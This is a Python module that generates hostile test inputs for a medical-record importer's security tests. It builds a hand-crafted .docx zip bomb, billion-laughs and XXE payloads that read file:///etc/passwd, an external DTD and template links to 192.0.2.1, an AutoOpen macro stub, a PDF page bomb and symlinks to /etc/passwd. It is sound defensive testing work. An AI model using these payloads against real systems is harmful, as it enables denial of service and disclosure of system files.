"""Write a case folder of hostile files of every kind EMRWriter reads, for the hostile-input
tests (tests/test_hostile_inputs.py) and for trying by hand:

    .venv/bin/python -m tests.hostile.make /tmp/hostile

Bombs (a .docx that unpacks to 1.5 GB, XML entity expansion and external entities, JSON
100,000 deep, a PDF page that inflates to 20 MB), a 145 MB "note", truncations at random
points (fixed seed), wrong encodings (UTF-16 without a mark, GB18030, Latin-1), binary junk
with the right extension, huge lines, broken tables, a .docx with macros and with outside
links, values of the wrong type inside valid files, and in the folder: links out of it,
link loops, a pipe and unreadable files. Nothing here is committed as a binary: every file
is made at test time, in a few seconds.

Each file is a ``Hostile``: its name, the bytes (or how to make it), and what import must
say: ``refused`` (a RecordError matching a pattern), ``problem`` (imported, with an import
problem matching it) or ``any`` (either, as long as it is said in one clear line).
"""

from __future__ import annotations

import io
import json
import os
import random
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

SEED = 13
GOOD_NOTE = """DISCHARGE SUMMARY

Patient: Jane Hostile    DOB: 03/02/1952    MRN: 4711
Admission Date: 2026-03-01
Discharge Date: 2026-03-05

DISCHARGE DIAGNOSES:
1. Community-acquired pneumonia.

DISCHARGE MEDICATIONS:
1. Amoxicillin 500 mg by mouth three times daily for 5 days.
"""


@dataclass
class Hostile:
    name: str  # the file's name in the case folder
    expect: str  # "refused" | "problem" | "any"
    pattern: str = ""  # a regex the refusal or an import problem matches (refused/problem)
    data: bytes | None = None
    write: Callable[[Path], None] | None = None  # for files made another way (big, links, pipes)
    heavy: bool = False  # worth a process of its own when memory and time are measured

    def make(self, folder: Path) -> Path:
        path = folder / self.name
        if self.write is not None:
            self.write(path)
        else:
            path.write_bytes(self.data or b"")
        return path


# --------------------------------------------------------------------------- building blocks


@cache
def _docx_parts() -> dict[str, bytes]:
    """The parts of a small real .docx (python-docx's own template plus one note)."""
    from docx import Document

    document = Document()
    for line in GOOD_NOTE.splitlines():
        document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _docx(changes: dict[str, bytes] | None = None) -> bytes:
    """A small real .docx with some parts replaced or added."""
    return _zip({**_docx_parts(), **(changes or {})})


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _document_xml(body: bytes, prolog: bytes = b"") -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + b"<w:document " + W + b"><w:body>" + body + b"</w:body></w:document>"
    )


LAUGHS = (
    b'<!DOCTYPE d [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b"]>"
)
XXE = b'<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
OUTSIDE_LINKS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
    b'Target="http://192.0.2.1/track.png" TargetMode="External"/>'
    b'<Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="file://192.0.2.1/share/evil.dotm" TargetMode="External"/></Relationships>'
)


def _write_docx_bomb(path: Path) -> None:
    """A real .docx whose word/document.xml inflates to 1.5 GB (1.5 MB on disk), written
    by hand: one compressed megabyte, flushed so that it stands alone, repeated 1,500 times."""
    head = b'<?xml version="1.0"?><w:document ' + W + b"><w:body><w:p><w:r><w:t>"
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b"A" * (1 << 20)
    repeats = 1500

    def segment(data: bytes, last: bool) -> bytes:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        return packer.compress(data) + packer.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)

    crc = zlib.crc32(head)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    packed = segment(head, False) + segment(chunk, False) * repeats + segment(tail, True)
    size = len(head) + len(chunk) * repeats + len(tail)
    parts = [(name, data) for name, data in _docx_parts().items() if name != "word/document.xml"]
    members = [(name, zlib.crc32(data), _deflate(data), len(data)) for name, data in parts]
    members.append(("word/document.xml", crc, packed, size))
    _write_zip(path, members)


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _write_zip(path: Path, members: list[tuple[str, int, bytes, int]]) -> None:
    """A ZIP of deflated members (name, crc, packed bytes, unpacked size), written by hand."""
    central = bytearray()
    with path.open("wb") as handle:
        for name, crc, packed, size in members:
            offset = handle.tell()
            fields = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0x21, crc, len(packed), size)
            handle.write(b"PK\x03\x04" + fields + struct.pack("<HH", len(name), 0) + name.encode() + packed)
            central += b"PK\x01\x02" + struct.pack("<H", 20) + fields
            central += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, offset) + name.encode()
        start = handle.tell()
        handle.write(central)
        handle.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), start, 0))


def _lying_sizes(data: bytes) -> bytes:
    """A zip whose headers say every part unpacks to 100 bytes: the bomb caught while reading."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := out.find(signature, start)) >= 0:
            out[start + offset : start + offset + 4] = (100).to_bytes(4, "little")
            start += 4
    return bytes(out)


def _pdf(pages: list[bytes], extra: bytes = b"") -> bytes:
    """A PDF with one page per content stream (Flate-compressed), xref table and all."""
    objects: list[bytes] = [b"<< /Type /Catalog /Pages 2 0 R >>", b""]
    kids = []
    font = 3
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    for content in pages:
        packed = zlib.compress(content, 9)
        objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream")
        stream_number = len(objects)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>"
            % (font, stream_number)
        )
        kids.append(b"%d 0 R" % len(objects))
    objects[1] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % len(pages)
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += extra
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _text_page(text: str) -> bytes:
    lines = b"".join(
        b"(" + line.encode("latin-1").replace(b"(", b"[").replace(b")", b"]") + b") Tj T* " for line in text.splitlines()
    )
    return b"BT /F1 11 Tf 14 TL 72 720 Td " + lines + b"ET"


def _bundle(*resources: dict) -> bytes:
    return json.dumps({"resourceType": "Bundle", "type": "collection", "entry": [{"resource": r} for r in resources]}).encode()


PATIENT = {"resourceType": "Patient", "id": "p1", "name": [{"family": "Hostile", "given": ["Jane"]}], "birthDate": "1952-03-02"}
ENCOUNTER = {
    "resourceType": "Encounter",
    "id": "e1",
    "class": {"code": "IMP"},
    "subject": {"reference": "Patient/p1"},
    "period": {"start": "2026-03-01", "end": "2026-03-05"},
}
CCDA = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="18842-5"/>'
    b"<recordTarget><patientRole><id root='1' extension='4711'/><patient><name><given>Jane</given><family>Hostile</family></name>"
    b"<birthTime value='BIRTHTIME'/></patient></patientRole></recordTarget>"
    b"<componentOf><encompassingEncounter><effectiveTime><low value='LOW'/><high value='20260305'/></effectiveTime>"
    b"</encompassingEncounter></componentOf>"
    b"<component><structuredBody><component><section><code code='11535-2'/><title>Discharge diagnosis</title>"
    b"<text>Community-acquired pneumonia</text></section></component></structuredBody></component></ClinicalDocument>"
)
LABS = "test,result,unit,reference range,date\nHemoglobin,12.1,g/dL,12-16,2026-03-02\nWBC,14.2,10^9/L,4-10,2026-03-02\n"
MEDS = "Medication,Dose,Route,Frequency\nAmoxicillin,500 mg,PO,TID\nParacetamol,1 g,PO,Q6H PRN\n"


def _truncations(name: str, data: bytes, count: int, rng: random.Random) -> list[Hostile]:
    """``data`` cut at ``count`` random points."""
    stem, _, suffix = name.rpartition(".")
    cuts = sorted(rng.sample(range(1, len(data)), count))
    return [Hostile(f"{stem}_cut{cut}.{suffix}", "any", data=data[:cut]) for cut in cuts]


def _junk(rng: random.Random, size: int) -> bytes:
    return rng.getrandbits(8 * size).to_bytes(size, "little")


# --------------------------------------------------------------------------- the corpus


def hostile_files(rng: random.Random | None = None) -> list[Hostile]:
    """Every hostile file, in a fixed order (the seed fixes the cuts and the junk)."""
    rng = rng or random.Random(SEED)
    docx = _docx()
    bundle = _bundle(PATIENT, ENCOUNTER)
    ccda = CCDA.replace(b"BIRTHTIME", b"19520302").replace(b"LOW", b"20260301")
    pdf = _pdf([_text_page(GOOD_NOTE)])
    files = [
        # .docx
        Hostile("zip_bomb.docx", "refused", r"limits\.docx_(unpacked|part)_mb", write=_write_docx_bomb, heavy=True),
        Hostile(
            "zip_bomb_lying_sizes.docx",
            "refused",
            r"docx|Word",
            data=_lying_sizes(_docx({"word/document.xml": b"<" * 5_000_000})),
        ),
        Hostile(
            "billion_laughs.docx",
            "refused",
            r"DTD or entities",
            data=_docx({"word/document.xml": _document_xml(b"<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>", LAUGHS)}),
        ),
        Hostile(
            "external_entity.docx",
            "refused",
            r"DTD or entities",
            data=_docx({"word/document.xml": _document_xml(b"<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>", XXE)}),
        ),
        Hostile(
            "macros.docx",
            "problem",
            r"contains macros; only its text was read",
            data=_docx(
                {
                    "[Content_Types].xml": _docx_parts()["[Content_Types].xml"].replace(
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        b"application/vnd.ms-word.document.macroEnabled.main+xml",
                    ),
                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b'Sub AutoOpen() Shell "calc" End Sub' * 20,
                }
            ),
        ),
        Hostile(
            "external_links.docx",
            "problem",
            r"links to outside files or web pages; only its own text was read, nothing was fetched",
            data=_docx({"word/_rels/document.xml.rels": OUTSIDE_LINKS}),
        ),
        Hostile(
            "deep_nesting.docx",
            "any",
            data=_docx({"word/document.xml": _document_xml(b"<w:p>" + b"<w:r>" * 100_000 + b"</w:r>" * 100_000 + b"</w:p>")}),
        ),
        Hostile(
            "many_parts.docx", "refused", r"limits\.docx_parts", data=_docx({f"word/media/x{i}.bin": b"x" for i in range(2500)})
        ),
        Hostile("junk.docx", "refused", r"not a readable Word|damaged|not a text file", data=_junk(rng, 20_000)),
        Hostile("junk_zip_header.docx", "refused", r"Word|ZIP|zip", data=b"PK\x03\x04" + _junk(rng, 20_000)),
        Hostile("not_a_docx.docx", "refused", r"a ZIP archive, not a Word", data=_zip({"a.txt": b"hello"})),
        *_truncations("truncated.docx", docx, 3, rng),
        # FHIR .json
        Hostile(
            "deep.json", "refused", r"nests more than \d+ levels deep.*limits\.json_depth", data=b"[" * 100_000 + b"]" * 100_000
        ),
        Hostile("deep_object.json", "refused", r"limits\.json_depth", data=b'{"a":' * 5_000 + b"1" + b"}" * 5_000),
        Hostile(
            "deep_bundle.json",
            "refused",
            r"limits\.json_depth",
            data=b'{"resourceType":"Bundle","entry":['
            + b'{"resource":{"resourceType":"Bundle","entry":[' * 300
            + b"]}}" * 300
            + b"]}",
        ),
        Hostile(
            "wrong_types.json",
            "problem",
            r"Patient/p1: birthDate 19520302 is not a FHIR date",
            data=_bundle(
                {**PATIENT, "birthDate": 19520302, "gender": ["female"]},
                {**ENCOUNTER, "period": {"start": "not a date", "end": 20260305}},
                {
                    "resourceType": "Observation",
                    "id": "o1",
                    "code": {"text": "Hemoglobin"},
                    "subject": {"reference": "Patient/p1"},
                    "valueQuantity": {"value": "twelve", "unit": "g/dL"},
                    "effectiveDateTime": {"not": "a date"},
                },
                {"resourceType": "Condition", "id": "c1", "code": "pneumonia", "subject": {"reference": "Patient/p1"}},
                {"resourceType": "MedicationRequest", "id": "m1", "subject": 42, "medicationCodeableConcept": ["x"]},
            ),
        ),
        Hostile("huge_integer.json", "any", data=b'{"resourceType":"Patient","id":"p","birthDate":' + b"9" * 100_000 + b"}"),
        Hostile(
            "nan.json", "any", data=b'{"resourceType":"Observation","id":"o","valueQuantity":{"value":NaN},"code":{"text":"x"}}'
        ),
        Hostile("top_level_list.json", "refused", r"not FHIR", data=b"[1, 2, 3]"),
        Hostile("junk.json", "any", data=b"{" + _junk(rng, 50_000)),
        Hostile("utf16_no_bom.json", "any", data=bundle.decode().encode("utf-16-le")),
        Hostile(
            "huge_string.json",
            "any",
            data=b'{"resourceType":"Patient","id":"p","name":[{"text":"' + b"A" * 8_000_000 + b'"}]}',
            heavy=True,
        ),
        Hostile(
            "over_cap.json",
            "refused",
            r"limits\.json_mb",
            write=lambda p: _write_padded(p, b'{"resourceType":"Bundle"', 17 << 20),
        ),
        Hostile(
            "many_empty_objects.json",
            "refused",
            r"objects and lists in the JSON; the limit is \d+ \(limits\.json_values\)",
            data=b'{"resourceType":"Bundle","entry":[' + b"{}," * 5_200_000 + b"{}]}",
            heavy=True,
        ),
        Hostile(
            "many_entries.json",
            "refused",
            r"entries in the Bundle; the limit is \d+ \(limits\.fhir_resources\)",
            data=b'{"resourceType":"Bundle","entry":[' + b"1," * 200_000 + b"1]}",
        ),
        *_truncations("truncated.json", bundle, 4, rng),
        # NDJSON
        Hostile(
            "long_line.ndjson",
            "problem",
            r"line 2: the line \(at least\) is .*limits\.ndjson_line_mb",
            write=lambda p: p.write_bytes(
                json.dumps(PATIENT).encode()
                + b'\n{"resourceType":"Observation","x":"'
                + b"B" * (5 << 20)
                + b'"}\n'
                + json.dumps(ENCOUNTER).encode()
                + b"\n"
            ),
            heavy=True,
        ),
        Hostile(
            "deep_line.ndjson",
            "problem",
            r"line 2: the JSON nests more than",
            data=json.dumps(PATIENT).encode() + b"\n" + b"[" * 100_000 + b"]" * 100_000 + b"\n",
        ),
        Hostile("junk.ndjson", "any", data=_junk(rng, 30_000)),
        Hostile(
            "bad_lines.ndjson",
            "problem",
            r"200000 more lines could not be used|more lines could not be used",
            data=json.dumps(PATIENT).encode() + b"\n" + b"{}\n" * 200_000,
        ),
        Hostile("utf16.ndjson", "any", data=(json.dumps(PATIENT) + "\n").encode("utf-16")),
        # C-CDA .xml
        Hostile(
            "billion_laughs.xml",
            "refused",
            r"entities",
            data=b'<?xml version="1.0"?>' + LAUGHS + b'<ClinicalDocument xmlns="urn:hl7-org:v3">&lol9;</ClinicalDocument>',
        ),
        Hostile(
            "external_entity.xml",
            "refused",
            r"entit|external",
            data=b'<?xml version="1.0"?>'
            + XXE
            + b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&xxe;</title></ClinicalDocument>',
        ),
        Hostile(
            "external_dtd.xml",
            "any",
            data=b'<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://192.0.2.1/evil.dtd">'
            b'<ClinicalDocument xmlns="urn:hl7-org:v3"><title>x</title></ClinicalDocument>',
        ),
        Hostile(
            "deep.xml",
            "any",
            data=b'<ClinicalDocument xmlns="urn:hl7-org:v3"><component><structuredBody><component><section><text>'
            + b"<content>" * 100_000
            + b"x"
            + b"</content>" * 100_000
            + b"</text></section></component></structuredBody></component></ClinicalDocument>",
        ),
        Hostile(
            "bad_dates.xml",
            "problem",
            r"patient/birthTime: 'not-a-date' is not an HL7 date",
            data=CCDA.replace(b"BIRTHTIME", b"not-a-date").replace(b"LOW", b"2026-13-45"),
        ),
        Hostile("gb18030_declared_utf8.xml", "any", data=ccda.replace(b"Jane", "王某某".encode("gb18030"))),
        Hostile("junk.xml", "any", data=b"<" + _junk(rng, 30_000)),
        Hostile("over_cap.xml", "refused", r"limits\.xml_mb", write=lambda p: _write_padded(p, b"<ClinicalDocument>", 11 << 20)),
        Hostile(
            "huge_text.xml",
            "any",
            data=ccda.replace(b"Community-acquired pneumonia", b"pneumonia\n" * 900_000),
            heavy=True,
        ),
        Hostile(
            "many_elements.xml",
            "any",
            data=b'<ClinicalDocument xmlns="urn:hl7-org:v3">' + b"<a/>" * 2_500_000 + b"</ClinicalDocument>",
            heavy=True,
        ),
        *_truncations("truncated.xml", ccda, 4, rng),
        # notes .txt / .md
        Hostile(
            "note_145mb.txt", "refused", r"145 MB; the limit is \d+ MB \(limits\.text_mb\)", write=_write_big_note, heavy=True
        ),
        Hostile("utf16_no_bom.txt", "any", data=GOOD_NOTE.encode("utf-16-le")),
        Hostile(
            "gb18030.txt",
            "any",
            data=(
                "出院记录\n姓名：王某某　性别：男\n入院日期：2026年3月1日\n出院日期：2026年3月5日\n诊断：社区获得性肺炎\n" * 20
            ).encode("gb18030"),
        ),
        Hostile("latin1.txt", "any", data=(GOOD_NOTE.replace("Jane", "Jos\u00e9 M\u00fcller") * 3).encode("latin-1")),
        Hostile("junk.txt", "refused", r"not a text file|encoding", data=_junk(rng, 50_000)),
        Hostile("nul_bytes.md", "any", data=GOOD_NOTE.encode().replace(b"\n", b"\x00\n")),
        Hostile(
            "one_huge_line.txt",
            "refused",
            r"a line of the text of a note.* is \d+ KB; the limit is \d+ KB \(limits\.text_line_kb\)",
            data=(GOOD_NOTE.replace("\n", " ") * 4_000)[:1_000_000].encode(),
        ),
        # Only 400 dated lines: the fact layer's date finder (find_dates calling find_date from each
        # position) takes time growing with the square of the dates in a note; 20,000 take hours.
        Hostile("many_dates.txt", "any", data=("入院日期：2026-03-01 出院日期：not a date\n" * 400).encode(), heavy=True),
        Hostile("pipes.md", "any", data=(("| test | result | unit |\n" + "|" * 2000 + "\n") * 500).encode(), heavy=True),
        Hostile("digits.txt", "refused", r"limits\.text_line_kb", data=b"1" * 1_000_000),
        Hostile(
            "hl7v2.hl7",
            "refused",
            r"HL7 v2 messages are not supported",
            data=b"MSH|^~\\&|A|B|C|D|202603010000||ADT^A01|1|P|2.5\rPID|1||4711\r",
        ),
        # CSV
        Hostile(
            "labs_too_many_rows.csv",
            "refused",
            r"rows in the table; the limit is \d+ \(limits\.csv_rows\)",
            data=(LABS + "Sodium,140\n" * 25_000).encode(),
            heavy=True,
        ),
        Hostile(
            "labs_broken.csv",
            "any",
            data=(LABS + 'WBC,"unclosed,10^9/L\nPlatelets\n,,,,,,,,,,\nHemoglobin,twelve,g/dL,12-16,yesterday\n').encode(),
        ),
        Hostile(
            "labs_wrong_values.csv",
            "problem",
            r"row 4: result .not a number. of .Sodium. is not a number",
            data=(LABS + "Sodium,not a number,mmol/L,135-145,not a date\n").encode(),
        ),
        Hostile(
            "labs_huge_field.csv", "any", data=(LABS + 'Sodium,"' + "9" * 300_000 + '",mmol/L,135-145,2026-03-02\n').encode()
        ),
        Hostile("labs_huge_header.csv", "any", data=("test,result," + "x," * 45_000 + "\nHemoglobin,12\n").encode(), heavy=True),
        Hostile("meds_broken.csv", "any", data=(MEDS + '"Aspirin,81 mg\n,,,\n' + "Heparin,,,\n" * 3).encode()),
        Hostile("meds_utf16.csv", "any", data=MEDS.encode("utf-16-le")),
        *_truncations("truncated_labs.csv", LABS.encode(), 2, rng),
        # PDF
        Hostile("junk.pdf", "refused", r"PDF", data=b"%PDF-1.4\n" + _junk(rng, 30_000)),
        Hostile(
            "many_pages.pdf",
            "refused",
            r"pages in the PDF; the limit is \d+ \(limits\.pdf_pages\)",
            data=_pdf([_text_page("page")] * 600),
        ),
        Hostile(
            "page_bomb.pdf",
            "refused",
            r"limits\.pdf_page_mb|limit",
            data=_pdf([b"BT /F1 11 Tf " + b"(AAAAAAAAAAAAAAAA) Tj " * 1_000_000 + b"ET"]),
            heavy=True,
        ),
        Hostile(
            "deep_array.pdf",
            "any",
            data=_pdf([_text_page(GOOD_NOTE)], extra=b"99 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\n"),
        ),
        Hostile("no_text.pdf", "refused", r"no text layer", data=_pdf([b"0 0 m 100 100 l S"])),
        *_truncations("truncated.pdf", pdf, 3, rng),
    ]
    return files


def folder_oddities(folder: Path) -> list[tuple[str, str]]:
    """Links out of the case folder, link loops, a pipe and unreadable files, made inside
    ``folder``; (name, a regex its import problem matches) each."""
    made: list[tuple[str, str]] = []

    def link(name: str, target: str | Path, pattern: str) -> None:
        os.symlink(target, folder / name)
        made.append((name, pattern))

    link("passwd_link.txt", "/etc/passwd", r"outside the case folder; not followed")
    link("root_link", "/", r"outside the case folder; not followed")
    link("loop_a.txt", folder / "loop_b.txt", r"loops or leads nowhere")
    link("loop_b.txt", folder / "loop_a.txt", r"loops or leads nowhere")
    link("self_loop.txt", folder / "self_loop.txt", r"loops or leads nowhere")
    link("dangling.txt", folder / "does_not_exist.txt", r"loops or leads nowhere")
    link("parent_loop", folder, r"in this case, which is read once")
    link("good_note_link.txt", folder / "good_note.txt", r"in this case, which is read once")
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "pipe.txt")
        made.append(("pipe.txt", r"not a regular file"))
    unreadable = folder / "unreadable.txt"
    unreadable.write_text(GOOD_NOTE)
    unreadable.chmod(0)
    made.append(("unreadable.txt", r"cannot be read|permission" if os.geteuid() != 0 else ""))
    locked = folder / "locked_folder"
    locked.mkdir()
    (locked / "inside.txt").write_text(GOOD_NOTE)
    locked.chmod(0)
    made.append(("locked_folder", r"folder cannot be read" if os.geteuid() != 0 else ""))
    return made


def unlock(folder: Path) -> None:
    """Give back the permissions taken (so the folder can be deleted)."""
    for path in (folder / "unreadable.txt", folder / "locked_folder"):
        if path.exists() and not path.is_symlink():
            path.chmod(stat.S_IRWXU)


def _write_padded(path: Path, start: bytes, size: int) -> None:
    with path.open("wb") as handle:
        handle.write(start)
        handle.write(b" " * (size - len(start)))


def _write_big_note(path: Path) -> None:
    """A 145 MB "note" of real-looking text."""
    block = (GOOD_NOTE * 400).encode()
    with path.open("wb") as handle:
        for _ in range(145 * 2**20 // len(block)):
            handle.write(block)
        handle.write(block[: 145 * 2**20 % len(block)])


def make_case(folder: Path, with_oddities: bool = True) -> tuple[list[tuple[Hostile, Path]], list[tuple[str, str]]]:
    """Write every hostile file, one good note and (optionally) the folder oddities into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "good_note.txt").write_text(GOOD_NOTE)
    files = [(hostile, hostile.make(folder)) for hostile in hostile_files()]
    oddities = folder_oddities(folder) if with_oddities else []
    return files, oddities


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_case")
    made, odd = make_case(target)
    print(f"{len(made)} hostile files and {len(odd)} folder oddities in {target}")
